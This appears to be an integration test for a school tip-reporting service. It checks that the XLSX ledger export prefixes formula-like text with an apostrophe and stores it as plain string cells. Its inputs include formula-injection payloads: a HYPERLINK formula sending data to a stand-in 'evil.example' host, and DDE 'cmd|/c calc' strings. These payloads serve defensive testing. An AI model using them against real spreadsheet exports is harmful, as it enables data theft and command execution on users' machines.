import ExcelJS from 'exceljs';
import { TipEntity } from '../../src/features/tips/tip.entity';
import { TestApp } from '../support/test-app';
import { submitTip, tipBody } from './tips-helpers';

/**
 * Spreadsheet exports never hand a formula to Excel/WPS: text a reporter or staff member typed that starts with
 * = + - @ is written with an apostrophe first, as a plain string cell (read back with exceljs).
 */
describe('tip ledger export: text that looks like a formula stays text', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await TestApp.start();
  });
  afterAll(() => t?.stop());

  it('=HYPERLINK(…), +…, -…, @… in every free-text field come back apostrophe-prefixed strings, and no cell is a formula', async () => {
    const ids = await t.seedDemo();
    const schoolId = ids.a.schoolId;
    const contact = await t.login('contact');
    const typed = {
      description: '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看详情")',
      when: '+SUM(1,2)',
      placeDetail: '@cmd|/c calc',
      peopleInvolved: '-2+3+cmd|/c calc',
      measures: '=1+2',
    };
    expect((await submitTip(t, tipBody(schoolId, {
      description: typed.description, when: typed.when, placeDetail: typed.placeDetail, peopleInvolved: typed.peopleInvolved,
    }), { remoteAddress: '10.60.0.1' })).status).toBe(201);
    const tip = await t.ds.getRepository(TipEntity).findOneOrFail({ where: { schoolId } });
    expect((await t.request('POST', `/tips/${tip.id}/ack`, { token: contact, body: {} })).status).toBe(200);
    const cur = (await t.request('GET', `/tips/${tip.id}`, { token: contact })).body;
    expect((await t.request('PATCH', `/tips/${tip.id}`, { token: contact, body: { version: cur.version, status: 'investigating', measures: typed.measures } })).status).toBe(200);

    const res = await t.request('GET', `/schools/${schoolId}/tips.xlsx`, { token: contact });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.raw as any);
    const ws = wb.worksheets[0];
    const headers = (ws.getRow(2).values as unknown[]).slice(1).map(String);
    const row = ws.getRow(3);
    const cell = (name: string) => row.getCell(headers.indexOf(name) + 1);

    expect(cell('经过').value).toBe(`'${typed.description}`);
    expect(cell('涉及人员').value).toBe(`'${typed.peopleInvolved}`);
    expect(cell('已采取措施').value).toBe(`'${typed.measures}`);
    expect(String(cell('时间').value)).toMatch(/^'\+SUM\(1,2\)（提交于 /);
    // 地点 is "<place label>：<detail>", so it does not start with the detail's @.
    expect(String(cell('地点').value)).toContain(typed.placeDetail);
    for (const name of ['经过', '涉及人员', '已采取措施', '时间']) expect({ name, type: cell(name).type }).toEqual({ name, type: ExcelJS.ValueType.String });
    ws.eachRow((r) => r.eachCell((c) => {
      expect({ at: c.address, type: c.type === ExcelJS.ValueType.Formula ? 'formula' : 'value' }).toEqual({ at: c.address, type: 'value' });
      if (typeof c.value === 'string') expect({ at: c.address, risky: /^[=+\-@\t\r]/.test(c.value) }).toEqual({ at: c.address, risky: false });
    }));
  });
});
